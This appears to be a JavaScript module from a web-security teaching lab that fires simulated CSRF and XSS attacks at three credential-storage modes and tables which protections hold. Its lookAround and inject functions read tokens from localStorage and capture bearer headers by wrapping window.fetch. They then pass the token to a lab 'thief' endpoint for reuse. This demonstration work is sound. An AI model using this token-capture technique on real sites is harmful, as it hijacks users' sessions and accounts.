/* Two attacks fired at all three: a foreign page forges a call, and a script runs in this one. */

import { exclusively, note } from "./actions.js";
import { lab } from "./api.js";
import { send } from "./clients.js";
import { fire, FOREIGN, heldBy, LOCKS, NEEDED, toggleLock, WEAPONS } from "./csrf.js";
import { duration } from "./format.js";
import { decode } from "./jwt.js";
import { whose } from "./moment.js";
import { MODES, pageNow, state, TITLES } from "./state.js";
import { Button, html } from "./ui.js";

/** What injected script finds: readable cookies, localStorage, and the bearer header of the page's next request. */
async function lookAround(mode) {
  const found = { cookies: document.cookie.split("; ").map((pair) => pair.split("=")[0]).filter(Boolean), tokens: {} };
  for (const name of ["accessToken", "refreshToken"]) {
    const stored = localStorage.getItem(`lab.${mode}.${name}`);
    if (stored) Object.assign(found.tokens, { [name]: stored });
  }
  const genuine = window.fetch;
  window.fetch = (url, options) => {
    const token = options?.headers?.Authorization?.replace("Bearer ", "");
    if (token) found.tokens.accessToken = token;
    return genuine(url, options);
  };
  try {
    await send(mode, "GET", "me");
  } finally {
    window.fetch = genuine;
  }
  if (state.holds[mode].refreshToken) found.tokens.refreshToken = state.holds[mode].refreshToken; // the page sends it itself
  return found;
}

async function inject(mode) {
  const found = await lookAround(mode);
  const rode = await send(mode, "PATCH", "profile", { displayName: "changed by injected script" });
  const { accessToken } = found.tokens;
  const elsewhere = accessToken ? await lab("thief", { mode, call: "token", accessToken, clock: state.offset }) : null;
  return { found, rode, elsewhere };
}

export const run = () =>
  exclusively(async () => {
    if (MODES.some((mode) => !state.holds[mode].as)) throw new Error("Sign in in all three columns first: an attack needs a victim.");
    const injected = {};
    for (const mode of MODES) injected[mode] = await inject(mode);
    await note("Injected script in this page", "xss");
    state.xss = { injected, profile: state.truth[whose(MODES[0])].account.displayName };
  }, "Injected script runs");

const Cell = ({ won, what, why }) => html`<td><b class=${won ? "no" : "yes"}>${won ? "⚠" : "✓"} ${what}</b><small>${why}</small></td>`;
const said = ({ status, code }) => `${status}${code ? ` ${code}` : ""}`;

const ROWS = [
  ["XSS reads the credential", "Script injected into this page looks around.", ({ injected }) => {
    const names = Object.keys(injected.found.tokens);
    return { won: names.length > 0, what: names.length ? `read ${names.join(" and ")}` : "could not read it",
      why: names.length ? "From memory or localStorage: whatever the page can send, its scripts can read." : `HttpOnly. It saw only: ${injected.found.cookies.join(", ") || "nothing"}.` };
  }],
  ["XSS acts as you", "It calls PATCH profile from here.", ({ injected }) => ({
    won: injected.rode.status < 400, what: `${injected.rode.status < 400 ? "worked" : "refused"}: ${said(injected.rode)}`,
    why: injected.rode.status < 400 ? "Same origin: the page's own credential goes along, and the CSRF token can be read."
      : "Only because the credential is over; script can sign in anew or renew it whenever the page can." })],
  ["XSS takes it away", "And uses it later, from elsewhere.", ({ injected }) => {
    if (!injected.elsewhere) return { won: false, what: "nothing to take", why: "What can't be read can't leave: the attack ends when the page is closed." };
    const left = decode(injected.found.tokens.accessToken).claims.exp - pageNow();
    const more = injected.found.tokens.refreshToken ? ", and then renews it with the refresh token" : "";
    const won = injected.elsewhere.status < 400;
    if (!won && injected.found.tokens.refreshToken) return { won: true, what: `not by the access token: ${said(injected.elsewhere)}`, why: "But the refresh token left too, and gets another." };
    return { won, what: `${won ? "worked" : "refused"}: ${said(injected.elsewhere)}`, why: won ? `In for ${duration(left)}${more}.` : "Worth nothing." };
  }],
];

const Lock = ({ name, number }) => html`<label class="lock" title=${LOCKS[name][1]}><input type="checkbox" id=${`lock-${name}`} checked=${!state.locks.includes(name)}
  disabled=${Boolean(state.busy)} onChange=${() => toggleLock(name)} /> ${number} ${LOCKS[name][0]}</label>`;

function Volley({ weapon }) {
  const { label, title } = WEAPONS[weapon];
  const done = state.csrf[weapon];
  return html`<tr data-weapon=${weapon}><th scope="row"><${Button} disabled=${Boolean(state.busy) || !FOREIGN} press=${() => fire(weapon)}>${label}<//><small>${title}.</small>
      ${done && html`<small>${done.away.length ? `Fired without: ${done.away.map((name) => LOCKS[name][0]).join("; ")}.` : "Fired with every lock in its place."}</small>`}</th>
    ${MODES.map((mode) => {
      const found = done?.found[mode];
      return found ? html`<${Cell} won=${!found.held} what=${found.held ? `stopped by ${heldBy(found.held)}: ${found.what}` : `worked: ${found.what}`} why=${found.why} />` : html`<td class="dim">not fired</td>`;
    })}</tr>`;
}

const Head = ({ what }) => html`<thead><tr><th>${what}</th>${MODES.map((mode) => html`<th class=${`name ${mode}`}>${TITLES[mode]} <small>by ${state.holds[mode].carrier ?? state.carriers[mode]}</small></th>`)}</tr></thead>`;

const Csrf = () => html`<section class="card view" id="csrf"><h2>A page of another site, in this browser (CSRF)</h2>
  ${FOREIGN ? html`<p class="dim">It opens at ${FOREIGN}: the same server by its other name, to your browser another site. Nothing is played: what the browser forbids, it forbids; what arrives, the server
    answers. Take a lock away, for this page's requests alone, and fire again.</p>` : html`<p class="no">${NEEDED}</p>`}
  <div class="row locks" role="group" aria-label="locks, in the order in which an attack meets them"><b>Locks</b>${Object.keys(LOCKS).map((name, n) => html`<${Lock} name=${name} number=${n + 1} />`)}</div>
  <p class="dim"><small>One more is the browser's own: where it blocks third-party cookies, as Safari, Firefox and private windows do, another site's fetch carries none, whatever SameSite says. A form leads the whole window there, and is no third party. It fires at the columns that act.</small></p>
  <table class="grid"><${Head} what="weapon" /><tbody>${Object.keys(WEAPONS).map((weapon) => html`<${Volley} key=${weapon} weapon=${weapon} />`)}</tbody></table></section>`;

const Xss = () => html`<section class="card view" id="xss"><div class="row"><h2>Script injected into this page (XSS)</h2><${Button} disabled=${Boolean(state.busy)} press=${run}>Run it<//></div>
  <p class="dim">It runs here, with this page's rights. Choose other carriers in the columns, sign in again, and run it again.</p>
  ${!state.xss ? html`<p class="none">Sign in in all three columns, then press <b>Run it</b>.</p>`
    : html`<table class="grid"><${Head} what="what it does" /><tbody>${ROWS.map(([title, note, judge]) => html`<tr><th scope="row"><b>${title}</b><small>${note}</small></th>
        ${MODES.map((mode) => html`<${Cell} ...${judge({ injected: state.xss.injected[mode] })} />`)}</tr>`)}</tbody></table>
      <p>The profile now reads “${state.xss.profile}”. <b>HttpOnly keeps a credential from leaving; nothing here keeps injected script from using it.</b> Don't have XSS.</p>`}
  </section>`;

export const Attacks = () => html`<${Csrf} /><${Xss} />`;
